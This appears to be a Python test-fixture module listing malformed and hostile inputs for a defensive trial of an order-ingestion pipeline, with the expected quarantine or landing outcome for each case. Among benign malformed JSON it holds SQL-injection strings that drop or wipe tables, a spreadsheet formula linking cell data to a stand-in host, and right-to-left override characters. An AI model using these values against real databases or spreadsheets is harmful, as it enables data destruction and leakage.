"""The classes of bad input the bad-input trial feeds ordersync, through `ordersync land` and as
get-order bodies served through the simulator.

Each case turns a real get-order body (a dict, its orderId already set and a unique marker as its
first key, so the record can be found again however it ends up) into the bytes sent. `expect` says
what must happen: "quarantine" (in cdp.quarantine with a reason, never landed), "land" (landed,
its text fields stored verbatim) or "either" (odd but defensible both ways: landed or quarantined,
never lost, never sinking the rest).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

Doc = dict[str, Any]
Make = Callable[[Doc], bytes]

QUARANTINE, LAND, EITHER = "quarantine", "land", "either"

# SQL (and placeholder) fragments, one per text field: stored verbatim, run never.
SQL = {
    "firstName": "Robert'); DROP TABLE cdp.orders_landing; --",
    "lastName": '" OR 1=1; DELETE FROM cdp.tenants; --',
    "email": "x@y.z'; UPDATE cdp.fct_orders SET total_value = 0; --",
    "userProfileId": "? %s $1 :name %(x)s",
    "salesChannel": "1; TRUNCATE cdp.sync_runs",
    "currencyCode": "BRL",  # a currency code has ISO 4217's form: SQL there is quarantined (below)
}
UNICODE = {
    "firstName": "Zoë 🛒 ñandú",
    "lastName": "مرحبا שלום",
    "email": "ünïcødé@例え.jp",
    "userProfileId": "e\u0301\u200b\ufeff",
    "salesChannel": "١",
    "currencyCode": "EUR",
}
CONTROL = "A\u0001B\u0007C\u001b[31mD\u007f"


def dump(doc: Doc) -> bytes:
    return json.dumps(doc, ensure_ascii=False).encode("utf-8")


def _with(**fields: Any) -> Make:
    def make(doc: Doc) -> bytes:
        doc = copy.deepcopy(doc)
        doc.update(fields)
        return dump(doc)

    return make


def _without(*keys: str) -> Make:
    def make(doc: Doc) -> bytes:
        return dump({k: v for k, v in doc.items() if k not in keys})

    return make


def _raw_value(text: str) -> Make:
    """`value` written verbatim (NaN, Infinity: JSON has no such literals, some encoders write them)."""

    def make(doc: Doc) -> bytes:
        doc = copy.deepcopy(doc)
        doc["value"] = 7777777
        return dump(doc).replace(b'"value": 7777777', b'"value": ' + text.encode(), 1)

    return make


def _texts(values: dict[str, str]) -> Make:
    def make(doc: Doc) -> bytes:
        doc = copy.deepcopy(doc)
        client = dict(doc.get("clientProfileData") or {})
        for key in ("firstName", "lastName", "email", "userProfileId"):
            client[key] = values[key]
        doc["clientProfileData"] = client
        doc["salesChannel"] = values["salesChannel"]
        store = dict(doc.get("storePreferencesData") or {})
        store["currencyCode"] = values["currencyCode"]
        doc["storePreferencesData"] = store
        return dump(doc)

    return make


def _currency(code: str) -> Make:
    def make(doc: Doc) -> bytes:
        doc = copy.deepcopy(doc)
        doc["storePreferencesData"] = {**(doc.get("storePreferencesData") or {}), "currencyCode": code}
        return dump(doc)

    return make


def _client(**fields: Any) -> Make:
    def make(doc: Doc) -> bytes:
        doc = copy.deepcopy(doc)
        doc["clientProfileData"] = {**(doc.get("clientProfileData") or {}), **fields}
        return dump(doc)

    return make


def _truncate(fraction: float) -> Make:
    def make(doc: Doc) -> bytes:
        body = dump(doc)
        return body[: max(60, int(len(body) * fraction))]

    return make


def _array(doc: Doc) -> bytes:
    return dump([doc["chaosCase"], doc])  # type: ignore[arg-type]


def _scalar(doc: Doc) -> bytes:
    return json.dumps(doc["chaosCase"]).encode()


def _empty(doc: Doc) -> bytes:
    return dump({"chaosCase": doc["chaosCase"]})


def _trailing(doc: Doc) -> bytes:
    return dump(doc) + b' {"orderId": "second"} trailing'


def _raw_control(doc: Doc) -> bytes:
    # a literal TAB/BEL/NUL inside a JSON string: not JSON
    return dump(doc).replace(b'"chaosCase": "', b'"chaosCase": "\x07\x00\t', 1)


def _latin1(doc: Doc) -> bytes:
    doc = copy.deepcopy(doc)
    doc["clientProfileData"] = {**(doc.get("clientProfileData") or {}), "firstName": "NAMEMARK"}
    return dump(doc).replace(b"NAMEMARK", "José Müller".encode("latin-1"), 1)


def _big(doc: Doc) -> bytes:
    doc = copy.deepcopy(doc)
    doc["customData"] = {"notes": "x" * (5 * 1024 * 1024)}
    return dump(doc)


def _duplicate_keys(doc: Doc) -> bytes:
    body = dump(doc)
    assert body.endswith(b"}")
    return body[:-1] + b', "value": 1, "orderId": ' + json.dumps(doc["orderId"] + "-dup").encode() + b"}"


def _nested(doc: Doc) -> bytes:
    depth = 50_000
    return dump(doc)[:-1] + b', "nest": ' + b"[" * depth + b"]" * depth + b"}"


def _bom(doc: Doc) -> bytes:
    return b"\xef\xbb\xbf" + dump(doc)


def _before_creation(doc: Doc) -> bytes:
    doc = copy.deepcopy(doc)
    doc["lastChange"] = "2001-01-01T00:00:00.0000000+00:00"
    return dump(doc)


def _long_id(doc: Doc) -> bytes:
    doc = copy.deepcopy(doc)
    doc["orderId"] = doc["orderId"] + "-" + "9" * 20_000
    return dump(doc)


@dataclass(frozen=True)
class Case:
    kind: str  # the class of bad input, as the report lists it
    name: str
    expect: str
    make: Make
    http: bool = True  # also served as a get-order body through the simulator
    keeps_id: bool = True  # the record still carries the order id it was given
    texts: dict[str, str] | None = None  # for LAND cases: the text fields that must be stored verbatim


BAD_DATES = (
    "2025-13-45T00:00:00Z",
    "31/12/2024 10:00",
    "yesterday",
    "",
    "2025-06-03T25:61:00Z",
    "0000-00-00T00:00:00Z",
    "+275760-09-13T00:00:00Z",
    "2025-06-03T10:00:00+99:00",
    "2025-06-03 10:00:00 PM",
)

CASES: tuple[Case, ...] = (
    Case("truncated JSON", "cut at half", QUARANTINE, _truncate(0.5)),
    Case("truncated JSON", "cut after the first keys", QUARANTINE, _truncate(0.01)),
    Case("not an order object", "a JSON array", QUARANTINE, _array),
    Case("not an order object", "a JSON string", QUARANTINE, _scalar, keeps_id=False),
    Case("not an order object", "an object without order fields", QUARANTINE, _empty, keeps_id=False),
    Case("trailing garbage", "a second document after the first", QUARANTINE, _trailing),
    Case("missing orderId", "no orderId key", QUARANTINE, _without("orderId"), keeps_id=False),
    Case("orderId of the wrong type", "a number", QUARANTINE, _with(orderId=12345), keeps_id=False),
    Case("orderId of the wrong type", "null", QUARANTINE, _with(orderId=None), keeps_id=False),
    Case("orderId of the wrong type", "blank", QUARANTINE, _with(orderId="   "), keeps_id=False),
    Case("orderId of the wrong type", "a NUL byte inside", QUARANTINE, _with(orderId="BAD-nul\u0000id"),
         http=False, keeps_id=False),
    Case("value of the wrong type", "a string", QUARANTINE, _with(value="129.90")),
    Case("value of the wrong type", "null", QUARANTINE, _with(value=None)),
    Case("value of the wrong type", "a boolean", QUARANTINE, _with(value=True)),
    Case("value of the wrong type", "an object", QUARANTINE, _with(value={"amount": 100})),
    Case("negative value", "-1500 cents", QUARANTINE, _with(value=-1500)),
    Case("huge values", "1e30", QUARANTINE, _with(value=1e30)),
    Case("huge values", "10**25 as an integer", QUARANTINE, _with(value=10**25)),
    Case("huge values", "1e400 (overflows a double)", QUARANTINE, _raw_value("1e400")),
    Case("NaN and infinities", "NaN", QUARANTINE, _raw_value("NaN")),
    Case("NaN and infinities", "Infinity", QUARANTINE, _raw_value("Infinity")),
    Case("NaN and infinities", "-Infinity", QUARANTINE, _raw_value("-Infinity")),
    Case("missing dates", "no creationDate", QUARANTINE, _without("creationDate")),
    Case("missing dates", "no lastChange", QUARANTINE, _without("lastChange")),
    *(Case("dates in wrong forms", f"creationDate {d!r}", QUARANTINE, _with(creationDate=d)) for d in BAD_DATES),
    Case("dates in wrong forms", "creationDate as epoch seconds", QUARANTINE, _with(creationDate=1717430400)),
    Case("dates in wrong forms", "lastChange 'not-a-date'", QUARANTINE, _with(lastChange="not-a-date")),
    Case("dates in wrong forms", "creationDate without a time", EITHER, _with(creationDate="2025-06-02")),
    Case("dates in wrong forms", "lastChange before creationDate", EITHER, _before_creation),
    Case("control characters", "escaped control characters in names", EITHER, _client(firstName=CONTROL)),
    Case("control characters", "an escaped NUL in a name", EITHER, _client(lastName="nul\u0000here")),
    Case("control characters", "raw control bytes inside a string", QUARANTINE, _raw_control),
    Case("5 MB bodies", "a 5 MB field", EITHER, _big),
    Case("non-UTF-8 bytes", "a Latin-1 name", QUARANTINE, _latin1),
    Case("duplicate keys", "orderId and value twice", EITHER, _duplicate_keys),
    Case("SQL fragments", "in every text field", LAND, _texts(SQL), texts=SQL),
    Case("currency codes not in ISO 4217 form", "SQL", QUARANTINE, _currency("BRL'||(SELECT version())||'")),
    Case("currency codes not in ISO 4217 form", "a spreadsheet formula", QUARANTINE,
         _currency('=HYPERLINK("http://x.example/?"&A1,"refund")')),
    Case("currency codes not in ISO 4217 form", "a symbol", QUARANTINE, _currency("€")),
    Case("invisible or reordering characters in orderId", "a right-to-left override", QUARANTINE,
         _with(orderId="BAD-rtl\u202e10-dap"), http=False, keeps_id=False),
    Case("invisible or reordering characters in orderId", "a zero-width space", QUARANTINE,
         _with(orderId="BAD-zw\u200bid"), http=False, keeps_id=False),
    Case("unicode text", "emoji, RTL, combining marks", LAND, _texts(UNICODE), texts=UNICODE),
    Case("deep nesting", "50,000 nested arrays", EITHER, _nested),
    Case("byte-order mark", "a UTF-8 BOM before the body", EITHER, _bom),
    Case("very long orderId", "20,000 characters", EITHER, _long_id, http=False, keeps_id=False),
    Case("status of the wrong type", "an object", EITHER, _with(status={"name": "invoiced"}), http=False),
    Case("SQL fragments", "in orderId and status", LAND,
         _with(orderId="BAD-'; DROP TABLE cdp.fct_orders; --", status="x'); DELETE FROM cdp.quarantine; --"),
         http=False, keeps_id=False),
)  # fmt: skip

# Tenant names: accepted (and then stored and usable verbatim) or refused with a clear message. The
# rule (lowercase letters, digits, - and _) refuses all but the last.
TENANT_NAMES = (
    'O\'Brien "shop"',
    "tienda ñandú 🛒",
    "x'); DROP TABLE cdp.tenants; --",
    "名前のショップ",
    "semi;colon\ttab",
    "%s ? $1",
    "a\u202eevil",
    "store_2-b",
)


def kinds() -> list[str]:
    """The distinct classes, in order (tenant names and binary files are checked besides the cases)."""
    seen: list[str] = []
    for case in CASES:
        if case.kind not in seen:
            seen.append(case.kind)
    return [*seen, "tenant names with quotes, SQL and unicode", "a binary file"]
